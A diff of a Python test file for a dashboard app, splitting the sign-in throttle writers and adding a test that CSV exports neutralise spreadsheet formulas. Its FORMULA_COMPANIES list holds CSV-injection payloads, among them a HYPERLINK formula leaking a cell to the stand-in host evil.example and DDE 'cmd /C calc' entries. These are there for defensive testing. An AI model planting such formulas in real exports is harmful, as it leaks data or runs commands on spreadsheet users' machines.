@@ -14,7 +14,9 @@ throttle arithmetic (test_team_repo), a ``<script>`` company in the log (test_pa
 from __future__ import annotations
 
 import ast
+import csv
 import inspect
+import io
 import logging
 import re
 from collections.abc import Callable, Iterator
@@ -54,13 +56,15 @@ STORE_READERS = {
         "InvalidSettings",
         "PermissionDenied",
         "StaleEdit",
-        "sign_in_wait",
     },  # fmt: skip
 }
 STORE_WRITERS = {
     "save_rep_override": "refuses anyone but an admin (require_admin), actor re-derived "
     "from the session's proof at the call",
-    "record_sign_in": "the sign-in audit/throttle row; written before anyone is signed in",
+    "begin_sign_in": "counts the attempt in the throttle before the password is checked; "
+    "written before anyone is signed in, refuses nothing but the attempt itself",
+    "finish_sign_in": "the sign-in audit row; clears the account's failures only after "
+    "its password was verified",
 }
 WRITE_CONSTRUCTS = re.compile(
     r"\.begin\(|session_scope|\.commit\(|(?<![.\w])(insert|update|delete)\(|exec_driver_sql"
@@ -177,7 +181,7 @@ def test_every_store_call_is_reviewed() -> None:
         if n not in STORE_READERS.get(m, set()) and n not in STORE_WRITERS
     }
     assert unreviewed == set(), "review these store imports (reader or guarded writer?)"
-    assert {"save_rep_override", "record_sign_in"} <= set().union(*store.values())
+    assert {"save_rep_override", "begin_sign_in", "finish_sign_in"} <= set().union(*store.values())
 
 
 def test_dashboard_code_writes_to_the_store_only_through_the_reviewed_writers() -> None:
@@ -272,7 +276,8 @@ def test_what_if_writes_nothing_even_for_an_admin(
     at.button(key="whatif_run").click().run()
     assert errors(at) == [] and at.dataframe, "the replay ran"
     after = table_rows(store)
-    after["sign_in_attempt"] = before["sign_in_attempt"]  # the sign-in itself is audited
+    for table in ("sign_in_attempt", "sign_in_throttle"):  # the sign-in itself counts
+        after[table] = before[table]
     assert after == before
 
 
@@ -417,3 +422,46 @@ def test_the_printable_fairness_report_escapes_names() -> None:
     report = FairnessReport(evil, at, at, 1, 0, False, (), None, None, None, evil)
     html = fairness_html(report, reps, service, generated="now")
     assert "<script>" not in html and html.count("&lt;script&gt;") >= 4
+
+
+# --- CSV exports carry no spreadsheet formula ---------------------------------------------
+
+FORMULA_COMPANIES = [
+    '=HYPERLINK("http://evil.example/?leak="&E2,"Acme")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_distribution_log_export_neutralises_formulas_and_keeps_umlauts(
+    store: str, app_as: Callable[..., AppTest]
+) -> None:
+    companies = [*FORMULA_COMPANIES, "Müller GmbH"]
+    engine = make_engine(store, pool=False)
+    with engine.begin() as conn:
+        ids = (
+            conn.execute(
+                sa.text("SELECT id FROM decision ORDER BY decided_at DESC, id DESC LIMIT :n"),
+                {"n": len(companies)},
+            )
+            .scalars()
+            .all()
+        )
+        for decision_id, company in zip(ids, companies, strict=True):
+            conn.execute(
+                sa.text("UPDATE decision SET lead_company = :c, lead_name = :c WHERE id = :i"),
+                {"c": company, "i": decision_id},
+            )
+    at = app_as(store, "viewer").switch_page("views/log.py").run()  # viewers can export
+    at.date_input(key="log_period").set_value(()).run()
+    at.button(key="log_csv_prepare").click().run()
+    raw = at.session_state["log_csv"]
+    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, or Excel garbles the umlaut"
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    exported = {r["lead_company"] for r in rows}
+    assert {"'" + c for c in FORMULA_COMPANIES} | {"Müller GmbH"} <= exported
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
